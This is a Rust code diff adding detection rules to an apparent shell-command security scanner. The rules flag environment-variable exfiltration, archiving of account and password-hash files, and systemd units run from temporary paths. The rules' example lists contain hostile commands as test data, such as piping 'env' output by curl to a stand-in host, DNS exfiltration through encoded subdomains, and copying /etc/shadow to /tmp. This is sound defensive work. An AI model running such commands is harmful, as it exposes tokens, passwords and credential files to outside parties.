@@ -11,7 +11,7 @@ use crate::effect::path::{Class, Mark, Resolved};
 use crate::effect::{Effect, Language, Object, ProgramId, Props, Site, Verb};
 use crate::finding::{Confidence, Severity};
 use crate::url::Reach as Far;
-use crate::value::{Piece, Why};
+use crate::value::{Piece, Value, Why};
 use std::collections::HashSet;
 
 pub(super) const RULES: &[Rule] = &[
@@ -79,6 +79,36 @@ pub(super) const RULES: &[Rule] = &[
         good: &["dig example.com", "dig $(hostname).example.com", "nslookup $(cat host.txt)"],
         bad: &["dig $(echo secret | base64).e.example", "nslookup $(xxd -p x.txt).e.example"],
         check: dns_exfiltration,
+    },
+    Rule {
+        id: "environment_exfiltration",
+        title: "All variables leave the machine",
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        category: Category::Exfiltration,
+        mitre: Some("T1552.007"),
+        floor: false,
+        description: "Everything in the environment, tokens and passwords of other programs with it, goes to another machine. \
+                      Send the one value that is needed.",
+        remediation: "Send the one value that is needed; change the secrets if they have been sent.",
+        good: &["env | grep PATH", "curl -d \"$USER\" https://api.example/", "env FOO=1 curl https://api.example/"],
+        bad: &["curl -d \"$(env)\" https://e.example/", "env | curl -d @- https://e.example/"],
+        check: environment_exfiltration,
+    },
+    Rule {
+        id: "accounts_packed",
+        title: "List of accounts is packed away",
+        severity: Severity::Low,
+        confidence: Confidence::Medium,
+        category: Category::Credentials,
+        mitre: Some("T1560"),
+        floor: false,
+        description: "The list of accounts or password hashes is copied into an archive, an encrypted or a temporary file, which is \
+                      how it is made ready to be taken away. Work on the one entry that is needed (getent).",
+        remediation: "Use getent for the one entry that is needed.",
+        good: &["cut -d: -f1 /etc/passwd", "cp /etc/passwd /etc/passwd.bak", "grep root /etc/passwd > root.txt"],
+        bad: &["tar czf /tmp/x.tgz /etc/passwd", "gzip -c /etc/passwd > x.gz", "cp /etc/shadow /tmp/x"],
+        check: accounts_packed,
     },
     Rule {
         id: "startup_file_commands",
@@ -159,6 +189,19 @@ fn is_shell(language: Language) -> bool {
 
 fn temporary_executed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     let mut seen = HashSet::new();
+    // `systemctl link /tmp/x.service`: what a unit in such a place names is run.
+    for e in facts.with(&[Verb::Service]) {
+        let Object::Named(_, v) = &e.object else { continue };
+        let p = facts.resolve(v, e);
+        if p.class == Class::Temporary && p.depth() > 1 && facts.props(e).has(Props::ENABLE) {
+            out.add(rule.about(facts, e).title(format!("{}: {}", rule.title, p.text)).evidence_as(
+                "path",
+                "names what is run",
+                &p.text,
+                e.place,
+            ));
+        }
+    }
     for e in facts.with(&[Verb::Execute, Verb::Read]).filter(|e| !facts.contained(e) && e.site == Site::Local) {
         let Some(p) = facts.path(e).filter(|p| p.class == Class::Temporary && p.is_known() && p.depth() > 1) else {
             continue;
@@ -232,6 +275,52 @@ fn bulk_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings)
                     .title(format!("{}: {} → {}", rule.title, p.text, sink.object.show()))
                     .evidence_as("path", "is read", &p.text, from.place)
                     .evidence("url", "is where it goes", sink.place),
+            );
+        }
+    }
+}
+
+fn environment_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    let shows = |e: &&Effect| matches!(e.object, Object::Stated("environment"));
+    let names: HashSet<&str> = facts.with(&[Verb::Inspect]).filter(shows).map(|e| facts.name(e)).collect();
+    if names.is_empty() {
+        return;
+    }
+    let held = |v: &Value| v.pieces.iter().any(|p| matches!(p, Piece::Unknown(u) if matches!(&u.why, Why::Output(n) if names.contains(n.as_str()))));
+    let mut seen = HashSet::new();
+    for e in facts.with(&[Verb::Send, Verb::Fetch, Verb::Probe]) {
+        if matches!(facts.address(e).map(|a| a.reach()), Some(Far::Loopback)) {
+            continue;
+        }
+        let Some(p) = facts.process(e).filter(|p| p.argv.iter().chain(p.stdin.as_ref()).any(held)) else { continue };
+        if seen.insert(p.id) {
+            out.add(
+                rule.about(facts, e)
+                    .title(format!("{}: {}", rule.title, e.object.show()))
+                    .evidence("command_pattern", "sends it", p.place)
+                    .evidence("url", "is where it goes", e.place),
+            );
+        }
+    }
+}
+
+fn accounts_packed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
+    let mut seen = HashSet::new();
+    for e in facts.with(&[Verb::Write, Verb::Append, Verb::Update]) {
+        let Some(to) = facts.path(e).filter(|_| !facts.contained(e)) else { continue };
+        for (from, _) in facts.sources_with(e, &[Verb::Read]) {
+            let Some(p) = facts.path(from).filter(|p| p.marks.has(Mark::Accounts)) else { continue };
+            let packed = facts.sources_with(e, &[Verb::Encode]).next().is_some() || facts.props(e).has(Props::PACKS);
+            let secret = p.marks.has(Mark::Credential) && to.class == Class::Temporary;
+            if to.class == Class::HarmlessDevice || !(packed || secret) || !seen.insert(p.text.clone()) {
+                continue;
+            }
+            out.add(
+                rule.about(facts, e)
+                    .also(from)
+                    .title(format!("{}: {} → {}", rule.title, p.text, to.text))
+                    .evidence_as("path", "is read", &p.text, from.place)
+                    .evidence_as("path", "gets it", &to.text, e.place),
             );
         }
     }
